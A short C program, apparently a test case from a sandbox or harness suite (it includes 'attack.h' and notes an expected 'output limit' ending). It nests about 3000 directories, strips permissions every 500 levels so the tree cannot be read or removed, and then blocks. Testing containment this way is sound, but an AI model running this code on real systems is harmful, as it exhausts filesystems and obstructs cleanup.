// Nests directories deeper than names can reach, and makes them unreadable.
// ends: output limit
#include "attack.h"
int main(void) {
    for (int n = 0; n < 3000; n++) {
        mkdir("d", 0700);
        close(open("d/f", O_CREAT | O_WRONLY, 0));
        if (chdir("d") != 0) break;
        if (n % 500 == 499) chmod(".", 0);
    }
    pause();
}
